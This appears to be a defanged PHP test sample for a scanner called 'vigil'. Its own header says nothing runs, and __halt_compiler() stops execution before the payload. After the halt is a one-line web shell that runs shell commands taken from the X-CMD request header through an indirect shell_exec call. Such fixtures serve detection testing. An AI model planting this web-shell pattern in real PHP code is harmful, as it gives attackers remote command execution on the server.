<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
forward_static_call_array('shell_exec', array($_SERVER['HTTP_X_CMD']));
